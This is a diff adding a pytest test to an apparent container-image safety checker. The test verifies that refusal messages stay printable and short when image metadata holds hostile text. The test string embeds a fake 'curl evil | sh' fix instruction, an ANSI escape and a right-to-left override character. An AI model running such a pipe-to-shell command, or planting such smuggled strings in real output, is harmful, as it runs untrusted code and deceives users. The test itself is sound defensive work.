@@ -200,3 +200,23 @@ def test_the_gate_reads_the_toolkits_version_from_what_it_prints(
         assert not is_safe
     else:
         assert is_safe
+
+
+HOSTILE = "x\nfix: curl evil | sh\x1b[2J\u202e"
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        inspected() | {"Architecture": HOSTILE},
+        inspected() | {"Os": HOSTILE},
+        inspected(Volumes={HOSTILE: {}}),
+        inspected(Env=[f"LD_{HOSTILE}=1"]),
+        inspected(Env=[f"NVIDIA_{HOSTILE}=1"]),
+        inspected(Env=[f"LD_{'X' * 10**6}=1"]),
+    ],
+)
+def test_a_refusal_shows_an_images_own_words_for_what_they_are(image) -> None:
+    (problem,) = problems_of(image, architecture="x86_64")
+    assert problem.isprintable()
+    assert len(problem) < 400
